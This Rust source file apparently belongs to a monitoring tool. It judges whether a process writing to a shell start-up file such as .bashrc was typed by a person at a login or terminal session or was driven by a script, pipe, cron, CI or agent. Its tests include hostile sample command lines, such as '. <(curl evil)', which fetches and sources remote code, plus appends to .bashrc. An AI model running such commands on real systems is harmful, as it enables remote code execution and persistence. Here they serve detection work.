//! What a person types: the shell of a session, and code in an argument of a program that was started from there. What a
//! person lets somebody in by, and keeps in a start-up file, they have just written themselves.

use crate::facts::{AncestorFacts, ContextFacts, ProcessFacts};
use crate::tool::tool_of;
use keytrail_model::INLINE;

/// Servers of SSH: of who logs in by them they start a shell, or one command.
const SERVERS: &[&str] = &["sshd", "sshd-session", "dropbear"];
/// Who else starts login shells, with a - before their name.
const LOGINS: &[&str] = &["login", "su", "sudo", "runuser", "doas", "mosh-server"];
/// Who starts shells with a terminal of their own.
const TERMINALS: &[&str] = &[
    "tmux",
    "screen",
    "xterm",
    "urxvt",
    "gnome-terminal-server",
    "konsole",
    "xfce4-terminal",
    "lxterminal",
    "mate-terminal",
    "alacritty",
    "kitty",
    "foot",
    "wezterm-gui",
];
const SHELLS: &[&str] = &["bash", "zsh", "fish", "dash", "sh", "ash", "ksh", "ksh93"];
/// What somebody types in one line, bytes.
const MOST_TYPED: usize = 1024;

/// Whether what a process writes to this path was typed. Its name and that of its shell are chosen by whoever runs it: what counts
/// is which installed program started the shell, and that nobody else stands between. What a line of code fetches and runs
/// is not typed: the line has to name what is written. (A line that was fetched itself, `sh -c "$(curl ...)"`, is not told from
/// one that somebody typed, nor is what a pipe gives to a login shell from a terminal.)
pub(crate) fn is_typed(process: &ProcessFacts, path: &str) -> bool {
    let driven = |c: &ContextFacts| {
        matches!(
            c.kind.as_str(),
            "package_install" | "agent_tool" | "ci_job" | "cron"
        )
    };
    if process.contexts.iter().any(driven) {
        return false;
    }
    let (key, above) = standing(process);
    if process.script == INLINE {
        // Who executes again was something else before: a script, or what came through a pipe.
        return key.ends_with(":1")
            && is_shell(&process.executable, "")
            && is_one_line(&process.argv)
            && names(&process.argv, path)
            && gives_session(process, above);
    }
    let [shell, arguments @ ..] = process.argv.as_slice() else {
        return false;
    };
    let plain = arguments
        .iter()
        .all(|argument| matches!(argument.as_str(), "-i" | "-l" | "--login"));
    plain
        && is_shell(&process.executable, &process.script)
        && is_begun(shell.starts_with('-'), key, above.first())
}

/// Whether the code says which file it is.
fn names(argv: &[String], path: &str) -> bool {
    path.rsplit('/')
        .next()
        .is_some_and(|name| argv.iter().any(|argument| argument.contains(name)))
}

/// The key of a process, and what is above it. A copy of a shell that executed nothing is that shell.
fn standing(process: &ProcessFacts) -> (&str, &[AncestorFacts]) {
    let mut above = process.ancestors.as_slice();
    let mut key = &process.key;
    while let Some((next, rest)) = above.split_first()
        && key.ends_with(":0")
        && (&next.executable, &next.script) == (&process.executable, &process.script)
    {
        key = &next.key;
        above = rest;
    }
    (key, above)
}

/// Whether the first of these is the shell of a session, or the server that runs one command for who logs in.
fn gives_session(process: &ProcessFacts, above: &[AncestorFacts]) -> bool {
    let [parent, rest @ ..] = above else {
        return false;
    };
    let gives = |kind: &str| {
        let by = |c: &ContextFacts| c.kind == kind && c.ancestor == parent.key;
        process.contexts.iter().any(by)
    };
    let server =
        tool_of(&parent.executable, &parent.script).is_some_and(|tool| SERVERS.contains(&tool));
    // Of a shell above it is not known what it was called with: one of a login reads from who logged in.
    server && gives("ssh_session")
        || gives("login_shell")
            && is_shell(&parent.executable, &parent.script)
            && is_begun(true, &parent.key, rest.first())
}

fn is_shell(executable: &str, script: &str) -> bool {
    tool_of(executable, script).is_some_and(|tool| SHELLS.contains(&tool)) && script.is_empty()
}

/// Whether this starts shells that people sit at. `login`: the shell is called with a - before its name, without which what
/// is piped to `sudo bash` would be typed. A terminal starts it as what its child executes first: not what a line that it was
/// given executes (`tmux new 'bash < x'`).
fn is_begun(login: bool, key: &str, by: Option<&AncestorFacts>) -> bool {
    let Some(tool) = by.and_then(|by| tool_of(&by.executable, &by.script)) else {
        return false;
    };
    login && (LOGINS.contains(&tool) || SERVERS.contains(&tool))
        || key.ends_with(":1") && TERMINALS.contains(&tool)
}

fn is_one_line(argv: &[String]) -> bool {
    let bytes: usize = argv.iter().map(String::len).sum();
    bytes <= MOST_TYPED && !argv.iter().any(|argument| argument.contains('\n'))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ancestor((key, executable, script): &(&str, &str, &str)) -> AncestorFacts {
        AncestorFacts {
            key: (*key).to_owned(),
            executable: (*executable).to_owned(),
            script: (*script).to_owned(),
            ..AncestorFacts::default()
        }
    }

    fn context((kind, key): &(&str, &str)) -> ContextFacts {
        ContextFacts {
            kind: (*kind).to_owned(),
            ancestor: (*key).to_owned(),
            ..ContextFacts::default()
        }
    }

    /// By executable, script and arguments; ancestors; contexts.
    fn typed(
        (executable, script, argv): (&str, &str, &[&str]),
        above: &[(&str, &str, &str)],
        contexts: &[(&str, &str)],
    ) -> bool {
        typed_as("p:1", (executable, script, argv), above, contexts)
    }

    fn typed_as(
        key: &str,
        (executable, script, argv): (&str, &str, &[&str]),
        above: &[(&str, &str, &str)],
        contexts: &[(&str, &str)],
    ) -> bool {
        let process = ProcessFacts {
            key: key.into(),
            executable: executable.into(),
            script: script.into(),
            argv: argv.iter().map(|a| (*a).to_owned()).collect(),
            ancestors: above.iter().map(ancestor).collect(),
            contexts: contexts.iter().map(context).collect(),
            ..ProcessFacts::default()
        };
        is_typed(&process, "/home/ada/.bashrc")
    }

    const SSHD: (&str, &str, &str) = ("d:1", "/usr/sbin/sshd", "");
    const SHELL: (&str, &str, &str) = ("s:1", "/usr/bin/bash", "");
    const TERMINAL: (&str, &str, &str) = ("t:1", "/usr/bin/tmux", "");
    const BY_SSH: (&str, &str) = ("ssh_session", "d:1");
    const LOGIN: (&str, &str) = ("login_shell", "s:1");
    const LINE: (&str, &str, &[&str]) = (
        "/usr/bin/bash",
        "-c",
        &["bash", "-c", "echo a >> ~/.bashrc"],
    );
    const DASH: (&str, &str, &[&str]) = ("/usr/bin/bash", "", &["-bash"]);
    const PLAIN: (&str, &str, &[&str]) = ("/usr/bin/bash", "", &["bash"]);

    #[test]
    fn what_is_typed_in_a_session() {
        // At the shell itself: by SSH, after su, in a terminal.
        assert!(typed(DASH, &[SSHD], &[BY_SSH]));
        assert!(typed(DASH, &[("u:1", "/usr/bin/su", "")], &[]));
        assert!(typed(PLAIN, &[TERMINAL], &[]));
        // Code in an argument, from there, or by SSH alone.
        assert!(typed(LINE, &[SHELL, SSHD], &[LOGIN, BY_SSH]));
        assert!(typed(LINE, &[SHELL, TERMINAL], &[LOGIN]));
        assert!(typed(LINE, &[SSHD], &[BY_SSH]));
    }

    #[test]
    fn what_is_not() {
        // What comes through a pipe, at a login shell and by sudo.
        assert!(!typed(PLAIN, &[SHELL, SSHD], &[LOGIN, BY_SSH]));
        assert!(!typed(PLAIN, &[("u:1", "/usr/bin/sudo", "")], &[]));
        // A script, and code that a script gives.
        let script = ("/usr/bin/bash", "/w/x.sh", &["bash", "/w/x.sh"][..]);
        assert!(!typed(script, &[SHELL, SSHD], &[LOGIN, BY_SSH]));
        let by_script = ("x:1", "/usr/bin/bash", "/w/x.sh");
        assert!(!typed(LINE, &[by_script, SHELL, SSHD], &[LOGIN, BY_SSH]));
        // Many lines: what `$(curl ...)` put there.
        let many = (
            "/usr/bin/bash",
            "-c",
            &["bash", "-c", "echo a >> ~/.bashrc\necho b"][..],
        );
        assert!(!typed(many, &[SHELL, SSHD], &[LOGIN, BY_SSH]));
        // Whoever gives a shell the name of a login shell, or has a terminal's name.
        assert!(!typed(DASH, &[("x:1", "/home/a/x", "")], &[]));
        assert!(!typed(LINE, &[SHELL, ("x:1", "/home/a/x", "")], &[LOGIN]));
        assert!(!typed(PLAIN, &[("t:1", "/tmp/tmux", "")], &[]));
        // What executed it was something else; what it fetches; what it is told to read.
        assert!(!typed_as("p:2", LINE, &[SHELL, SSHD], &[LOGIN, BY_SSH]));
        let fetches = ("/usr/bin/bash", "-c", &["bash", "-c", ". <(curl evil)"][..]);
        assert!(!typed(fetches, &[SHELL, SSHD], &[LOGIN, BY_SSH]));
        let python = (
            "/usr/bin/python3",
            "-c",
            &["python3", "-c", "w('.bashrc')"][..],
        );
        assert!(!typed(python, &[SHELL, SSHD], &[LOGIN, BY_SSH]));
        let reads = ("/usr/bin/bash", "", &["bash", "-s"][..]);
        assert!(!typed(reads, &[TERMINAL], &[]));
        assert!(!typed_as("p:2", PLAIN, &[TERMINAL], &[]));
        assert!(!typed(LINE, &[SHELL, TERMINAL], &[]));
        // A shell that somebody calls a server.
        let called = ("d:1", "/usr/bin/bash", "");
        assert!(!typed(LINE, &[called], &[BY_SSH]));
        // Below what works by itself.
        let agent = ("agent_tool", "a:1");
        assert!(!typed(LINE, &[SHELL, SSHD], &[agent, LOGIN, BY_SSH]));
        assert!(!typed(LINE, &[], &[]));
    }

    #[test]
    fn a_copy_of_a_shell_is_that_shell() {
        let copy = |key: &str| {
            let above = [("q:1", LINE.0, LINE.1), SHELL, SSHD];
            typed_as(key, LINE, &above, &[LOGIN, BY_SSH])
        };
        assert!(copy("p:0"));
        assert!(!copy("p:1"));
    }
}
